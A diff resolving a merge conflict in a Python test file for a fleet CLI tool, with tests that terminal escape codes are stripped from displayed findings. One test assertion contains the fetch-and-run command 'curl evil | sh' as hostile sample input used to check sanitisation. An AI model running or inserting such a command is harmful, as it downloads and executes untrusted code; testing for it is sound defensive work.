@@ -4,10 +4,7 @@ import subprocess
 import sys
 
 from kai_fleet_cli.display.terminal import engine_line, say
-<<<<<<< HEAD
-=======
 from kai_fleet_cli.doctor.causes import Fault, findings
->>>>>>> next
 from kai_fleet_cli.stack_file.reading import ROOT
 
 PROGRAM = """
@@ -35,8 +32,6 @@ def test_a_terminal_is_told_colours_and_nothing_else(capsys):
     assert capsys.readouterr().out == "\x1b[31mred\x1b[0m [2J]0;title1mover\tok\n"
     say("a\x1b[2Jb")
     assert capsys.readouterr().err == "a[2Jb\n"
-<<<<<<< HEAD
-=======
 
 
 def test_a_finding_is_a_line_of_its_own():
@@ -48,4 +43,3 @@ def test_a_finding_is_a_line_of_its_own():
     assert found.cause.startswith("it says [2J broken host run 'curl evil | sh' xxx")
     assert len(found.cause) == 2000
     assert found.fix == "look with: `kubectl -n b get a in b`"
->>>>>>> next
